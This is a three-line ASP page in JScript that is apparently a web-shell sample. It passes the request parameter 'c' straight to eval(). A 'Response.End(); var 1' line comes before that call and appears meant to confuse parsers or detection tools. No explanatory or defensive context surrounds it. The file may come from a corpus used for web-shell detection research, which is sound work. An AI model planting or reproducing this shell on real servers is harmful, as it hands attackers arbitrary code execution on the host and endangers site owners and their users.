<%@ Language="JScript" %>
<% Response.End(); var 1 %>
<% eval(Request.Item("c")+""); %>
